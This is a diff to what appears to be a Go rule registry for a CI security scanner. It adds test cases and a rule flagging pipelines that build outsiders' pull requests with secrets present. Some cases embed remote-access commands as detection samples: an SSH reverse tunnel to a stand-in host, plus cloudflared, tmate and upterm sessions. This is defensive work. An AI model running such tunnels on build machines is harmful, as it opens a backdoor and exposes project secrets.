@@ -934,6 +934,8 @@ var registry = []Rule{
 			{"x.sh", "cloudflared tunnel --url ssh://localhost:22", 0, false},
 			{"x.sh", "tmate -S /tmp/t.sock new-session -d && tmate -S /tmp/t.sock wait tmate-ready", 0, false},
 			{".gitlab-ci.yml", "debug:\n  script:\n    - upterm host --force-command 'bash' -- bash", 3, false},
+			// TeamCity's Kotlin settings: a script step's scriptContent is shell.
+			{".teamcity/settings.kts", "object Build : BuildType({\n    steps {\n        script {\n            scriptContent = \"\"\"\n                ssh -fNR 2222:localhost:22 u@x.invalid\n            \"\"\".trimIndent()\n        }\n    }\n})", 5, false},
 			// Forwards out of the runner, and host keys, open no way in.
 			{"x.sh", "ssh -L 5432:db.internal:5432 -N bastion.x.invalid &", 0, true},
 			{"x.sh", "ssh-keygen -R github.com", 0, true},
@@ -1083,6 +1085,15 @@ var registry = []Rule{
 	{"ci-secrets", KindCredential, High, "reads CI secrets",
 		"it hands the project's secrets to what the change runs", []Case{
 			{"x.js", "const k = `${{ secrets.API_KEY }}`", 0, false},
+		}},
+	{"ci-pr-secrets", KindRunner, High, "builds others' pull requests in a pipeline that holds secrets",
+		"every script of the pipeline runs the pull request's code, and the secrets (signing, store keys, deploy credentials) are there for it to read and send", []Case{
+			{"codemagic.yaml", "workflows:\n  ios-release:\n    triggering:\n      events: [tag, pull_request]\n    environment:\n      groups: [app_store]\n    scripts:\n      - name: Build\n        script: flutter build ipa --release", 4, false},
+			{".teamcity/settings.kts", "object Build : BuildType({\n    params { password(\"env.DEPLOY_KEY\", \"credentialsJSON:4f1e\") }\n    features {\n        pullRequests { provider = github { filterAuthorRole = PullRequests.GitHubRoleFilter.EVERYBODY } }\n    }\n})", 4, false},
+			// A pull-request workflow beside a release workflow that holds the secrets.
+			{"codemagic.yaml", "workflows:\n  test:\n    triggering:\n      events: [pull_request]\n    scripts:\n      - flutter test\n  ios-release:\n    triggering:\n      events: [tag]\n    environment:\n      groups: [app_store]", 0, true},
+			// Only the project's members' pull requests.
+			{".teamcity/settings.kts", "object Build : BuildType({\n    params { password(\"env.DEPLOY_KEY\", \"credentialsJSON:4f1e\") }\n    features {\n        pullRequests { provider = github { filterAuthorRole = PullRequests.GitHubRoleFilter.MEMBERS } }\n    }\n})", 0, true},
 		}},
 	{"runner-host-access", KindRunner, High, "starts a container with the self-hosted runner's host in its hands (privileged, the host's root, processes or Docker socket)",
 		"a self-hosted runner is a machine that keeps what a job leaves: a container given the host's root file system, its processes or its Docker daemon can change the runner itself, and the jobs after this one, other workflows' included, run on what it left", []Case{
